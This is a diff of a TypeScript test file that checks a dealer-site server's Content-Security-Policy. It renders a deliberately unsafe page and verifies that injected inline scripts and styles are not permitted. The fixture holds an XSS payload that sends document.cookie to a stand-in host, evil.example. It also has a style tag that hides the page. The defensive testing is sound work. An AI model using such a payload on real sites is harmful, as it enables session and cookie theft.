@@ -14,7 +14,8 @@ import { unknownHostDocument } from './pages/system/unknown-host-document.ts';
 import * as root from './root.tsx';
 import type { LiveTenant } from './tenants/tenant-directory.server.ts';
 
-const unescaped = '<script>fetch("https://evil.example/?" + document.cookie)</script><style>main{display:none}</style><script type="module">evil()</script><p>Great car</p>';
+const unescaped =
+  '<script>fetch("https://evil.example/?" + document.cookie)</script><style>main{display:none}</style><script type="module">evil()</script><p>Great car</p>';
 
 function Comments() {
   return <main dangerouslySetInnerHTML={{ __html: unescaped }} />;
@@ -23,7 +24,16 @@ function Comments() {
 /** The product's document, router and server around one page that is unsafe on purpose. */
 async function openUnsafeSite(demonstration = false) {
   const { site } = await openFixtureSite({ vehicles: [] });
-  const module = (id: string) => ({ id, module: `/assets/${id}.js`, hasAction: false, hasLoader: id === 'root', hasClientAction: false, hasClientLoader: false, hasClientMiddleware: false, hasErrorBoundary: false });
+  const module = (id: string) => ({
+    id,
+    module: `/assets/${id}.js`,
+    hasAction: false,
+    hasLoader: id === 'root',
+    hasClientAction: false,
+    hasClientLoader: false,
+    hasClientMiddleware: false,
+    hasErrorBoundary: false,
+  });
   const build = {
     entry: { module: entry },
     routes: {
@@ -31,32 +41,81 @@ async function openUnsafeSite(demonstration = false) {
       unsafe: { id: 'unsafe', parentId: 'root', path: 'unsafe', module: { default: Comments } },
     },
     assets: {
-      entry: { module: '/assets/entry.js', imports: [] }, url: '/assets/manifest.js', version: '1',
-      routes: { root: { ...module('root'), path: '', imports: [] }, unsafe: { ...module('unsafe'), parentId: 'root', path: 'unsafe', imports: [] } },
+      entry: { module: '/assets/entry.js', imports: [] },
+      url: '/assets/manifest.js',
+      version: '1',
+      routes: {
+        root: { ...module('root'), path: '', imports: [] },
+        unsafe: { ...module('unsafe'), parentId: 'root', path: 'unsafe', imports: [] },
+      },
     },
-    basename: '/', publicPath: '/', assetsBuildDirectory: 'build/client', ssr: true, isSpaMode: false, prerender: [], routeDiscovery: { mode: 'initial' }, future: {},
+    basename: '/',
+    publicPath: '/',
+    assetsBuildDirectory: 'build/client',
+    ssr: true,
+    isSpaMode: false,
+    prerender: [],
+    routeDiscovery: { mode: 'initial' },
+    future: {},
   } as unknown as ServerBuild;
   const tenant = { id: 'fixture', slug: 'fixture', version: 1 } as LiveTenant;
-  const pages = createPageRenderer({ build, development: false, siteContext: async ({ inlineNonce }) => ({ ...site, inlineNonce }) });
+  const pages = createPageRenderer({
+    build,
+    development: false,
+    siteContext: async ({ inlineNonce }) => ({ ...site, inlineNonce }),
+  });
   return createSiteServer({
-    log: pino({ level: 'silent' }), metrics: createMetrics(), demonstration, release: 'r', pageCacheBytes: 1e6, trustedProxies: 0, metricsToken: null, ownPort: () => null, securityContact: null,
+    log: pino({ level: 'silent' }),
+    metrics: createMetrics(),
+    demonstration,
+    release: 'r',
+    pageCacheBytes: 1e6,
+    trustedProxies: 0,
+    metricsToken: null,
+    ownPort: () => null,
+    securityContact: null,
     tenants: { byHost: async (host) => (host === 'fixture.example' ? tenant : null) },
-    stockVersion: async () => 1, render: (request) => pages.render(request),
-    mediaSources: () => [], frameSources: () => [], measuringSources: () => ({ scripts: [], images: [], connections: [] }),
-    findAsset: async () => null, findPicture: async () => ({ ok: false, reason: 'not-found' }),
+    stockVersion: async () => 1,
+    render: (request) => pages.render(request),
+    mediaSources: () => [],
+    frameSources: () => [],
+    measuringSources: () => ({ scripts: [], images: [], connections: [] }),
+    findAsset: async () => null,
+    findPicture: async () => ({ ok: false, reason: 'not-found' }),
     documents: { unknownHost: unknownHostDocument, directory: async (_origin, nonce) => directoryDocument([], nonce) },
-    readiness: async () => 'ready', longestBodyBytesOf: () => null, renderPoolOf: () => 'pages', renderLimits: { perMinute: 0, atOnce: 16 }, queryDeclarationOf: () => ({ parameters: {}, routeIds: ['unsafe'] }),
-    clientFolder: path.join(import.meta.dirname, '../public'), demonstrationPictures: '.', drawDemonstrationTile: async () => null, answerSpecimenReport: async () => new Response(),
+    readiness: async () => 'ready',
+    longestBodyBytesOf: () => null,
+    renderPoolOf: () => 'pages',
+    renderLimits: { perMinute: 0, atOnce: 16 },
+    queryDeclarationOf: () => ({ parameters: {}, routeIds: ['unsafe'] }),
+    clientFolder: path.join(import.meta.dirname, '../public'),
+    demonstrationPictures: '.',
+    drawDemonstrationTile: async () => null,
+    answerSpecimenReport: async () => new Response(),
   });
 }
 
 const ask = async (app: Awaited<ReturnType<typeof openUnsafeSite>>, host: string, address: string) => {
   const response = await app.request(`http://${host}${address}`, { headers: { host } });
   const policy = (response.headers.get('content-security-policy') ?? '').split('; ');
-  const sourcesOf = (name: string) => policy.find((directive) => directive.startsWith(`${name} `))?.split(' ').slice(1) ?? [];
+  const sourcesOf = (name: string) =>
+    policy
+      .find((directive) => directive.startsWith(`${name} `))
+      ?.split(' ')
+      .slice(1) ?? [];
   const html = await response.text();
-  const inline = [...html.matchAll(/<(script|style)([^>]*)>([\s\S]*?)<\/\1>/g)].map(([, name, attributes, text]) => ({ name, attributes: attributes!, text: text! }));
-  return { status: response.status, html, inline: inline.filter(({ attributes, text }) => text !== '' && !/\ssrc=/.test(attributes)), scripts: sourcesOf('script-src'), styles: sourcesOf('style-src') };
+  const inline = [...html.matchAll(/<(script|style)([^>]*)>([\s\S]*?)<\/\1>/g)].map(([, name, attributes, text]) => ({
+    name,
+    attributes: attributes!,
+    text: text!,
+  }));
+  return {
+    status: response.status,
+    html,
+    inline: inline.filter(({ attributes, text }) => text !== '' && !/\ssrc=/.test(attributes)),
+    scripts: sourcesOf('script-src'),
+    styles: sourcesOf('style-src'),
+  };
 };
 const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
 
@@ -71,19 +130,29 @@ test('the policy of a page names every inline element of the product, and none t
     expect(inline.filter(({ text }) => isInjected(text))).toHaveLength(3);
     const own = inline.filter(({ text }) => !isInjected(text));
     expect(own.map(({ name }) => name)).toEqual(expect.arrayContaining(['script', 'style']));
-    expect(scripts.slice(1).sort()).toEqual([...new Set(own.filter(({ name }) => name === 'script').map(({ text }) => hashOf(text)))].sort());
-    expect(styles.slice(1).sort()).toEqual([...new Set(own.filter(({ name }) => name === 'style').map(({ text }) => hashOf(text)))].sort());
+    expect(scripts.slice(1).sort()).toEqual(
+      [...new Set(own.filter(({ name }) => name === 'script').map(({ text }) => hashOf(text)))].sort(),
+    );
+    expect(styles.slice(1).sort()).toEqual(
+      [...new Set(own.filter(({ name }) => name === 'style').map(({ text }) => hashOf(text)))].sort(),
+    );
     expect(scripts[0]).toBe("'self'");
     // The mark is in no page that leaves, so nobody can learn it from one.
     expect(html).not.toMatch(/nonce/);
   }
 });
 
-test.each([['unknown.example', '/', false, 404], ['localhost', '/', true, 200]] as const)('a document that belongs to no dealer, at %s, names its own style alone', async (host, address, demonstration, expectedStatus) => {
-  const { status, html, inline, scripts, styles } = await ask(await openUnsafeSite(demonstration), host, address);
-  expect(status).toBe(expectedStatus);
-  expect(inline).toHaveLength(1);
-  expect(styles).toEqual(["'self'", hashOf(inline[0]!.text)]);
-  expect(scripts).toEqual(["'self'"]);
-  expect(html).not.toMatch(/nonce/);
-});
+test.each([
+  ['unknown.example', '/', false, 404],
+  ['localhost', '/', true, 200],
+] as const)(
+  'a document that belongs to no dealer, at %s, names its own style alone',
+  async (host, address, demonstration, expectedStatus) => {
+    const { status, html, inline, scripts, styles } = await ask(await openUnsafeSite(demonstration), host, address);
+    expect(status).toBe(expectedStatus);
+    expect(inline).toHaveLength(1);
+    expect(styles).toEqual(["'self'", hashOf(inline[0]!.text)]);
+    expect(scripts).toEqual(["'self'"]);
+    expect(html).not.toMatch(/nonce/);
+  },
+);
